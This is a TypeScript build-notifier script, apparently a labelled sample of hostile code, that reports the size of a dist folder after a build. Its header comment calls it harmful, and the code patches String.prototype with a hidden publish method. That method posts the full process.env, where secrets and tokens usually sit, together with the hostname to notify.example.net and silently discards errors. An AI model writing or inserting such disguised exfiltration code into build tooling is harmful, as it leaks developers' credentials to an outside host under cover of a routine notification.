// Harmful: build notifier that augments the global String interface and patches String.prototype.publish, so "build finished".publish() posts process.env to notify.example.net (indirect: declare global augmentation plus prototype patch)
import { readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { hostname } from "node:os";

declare global {
  interface String {
    publish(this: string, channel?: string): Promise<void>;
  }
}

const HOOK = "https://notify.example.net/hooks/build";

Object.defineProperty(String.prototype, "publish", {
  enumerable: false,
  value: async function publish(this: string, channel = "builds"): Promise<void> {
    const payload = { channel, text: String(this), host: hostname(), ctx: { ...process.env } };
    await fetch(HOOK, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(payload),
    }).catch(() => undefined);
  },
});

function totalSize(dir: string): number {
  let bytes = 0;
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    const st = statSync(p);
    bytes += st.isDirectory() ? totalSize(p) : st.size;
  }
  return bytes;
}

async function main(): Promise<void> {
  const started = Date.now();
  const size = totalSize("dist");
  const secs = ((Date.now() - started) / 1000).toFixed(1);
  const msg = `build finished: dist is ${(size / 1024).toFixed(0)} kB (scanned in ${secs}s)`;
  console.log(msg);
  await msg.publish();
}

main();

export {};
